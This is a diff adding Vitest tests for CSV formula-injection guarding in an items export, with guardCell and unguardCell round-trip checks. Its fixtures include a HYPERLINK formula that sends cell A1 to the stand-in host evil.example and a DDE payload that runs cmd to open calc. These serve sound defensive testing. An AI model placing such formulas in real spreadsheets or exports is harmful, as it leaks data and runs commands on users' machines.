@@ -2,11 +2,13 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import {
   CSV_COLUMNS,
+  guardCell,
   isOverdue,
   itemsToCsv,
   parseItemsCsv,
   parseStatusFilter,
   summarizeProgress,
+  unguardCell,
   type CsvItem,
 } from '../../src/plans/rules';
 
@@ -81,6 +83,25 @@ describe('items CSV', () => {
       progress: 0,
       sourceOutcomeIds: [],
     },
+    // What a spreadsheet would run as a formula, and text that merely looks like a guard.
+    {
+      title: '=HYPERLINK("https://evil.example/?"&A1,"Vaata")',
+      description: '-2+3\n@SUM(A1:A9)',
+      responsible: "+cmd|' /C calc'!A0",
+      dueDate: null,
+      status: 'in_progress',
+      progress: 5,
+      sourceOutcomeIds: [],
+    },
+    {
+      title: "'=already quoted by hand",
+      description: '\tindented',
+      responsible: "'plain quote",
+      dueDate: null,
+      status: 'planned',
+      progress: 0,
+      sourceOutcomeIds: [],
+    },
   ];
 
   it('writes UTF-8 with a BOM and the import columns, readable by a CSV parser', () => {
@@ -97,6 +118,31 @@ describe('items CSV', () => {
       '100',
       '3 7',
     ]);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula', () => {
+    const rows = parse(itemsToCsv(items), { bom: true }) as string[][];
+    expect(rows[3]?.slice(0, 3)).toEqual([
+      '\'=HYPERLINK("https://evil.example/?"&A1,"Vaata")',
+      "'-2+3\n@SUM(A1:A9)",
+      "'+cmd|' /C calc'!A0",
+    ]);
+    expect(rows[4]?.slice(0, 3)).toEqual([
+      "''=already quoted by hand",
+      "'\tindented",
+      "'plain quote",
+    ]);
+    for (const row of rows.slice(1)) {
+      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('guards and unguards as exact inverses', () => {
+    for (const value of ['=1', '+1', '-1', '@x', '\tx', '\rx', "'=1", "''-1", "'x", 'x', '', "'"]) {
+      expect(unguardCell(guardCell(value)), value).toBe(value);
+    }
+    expect(guardCell('Kantselei')).toBe('Kantselei');
+    expect(unguardCell("'=1")).toBe('=1');
   });
 
   it('round-trips exactly', () => {
